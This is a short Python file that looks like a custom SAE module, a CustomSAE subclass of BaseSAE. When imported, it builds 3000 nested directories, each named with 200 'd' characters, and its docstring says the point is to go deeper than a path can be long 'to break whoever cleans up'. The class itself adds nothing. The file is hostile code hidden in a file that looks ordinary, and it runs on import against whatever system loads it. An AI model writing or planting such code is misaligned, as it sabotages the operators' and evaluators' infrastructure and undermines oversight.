"""Folders in folders, deeper than a path can be long, to break whoever cleans up."""

import os

from core import BaseSAE

TRAIN = False
HERE = os.getcwd()
for _ in range(3000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
os.chdir(HERE)


class CustomSAE(BaseSAE):
    """BaseSAE as it is."""
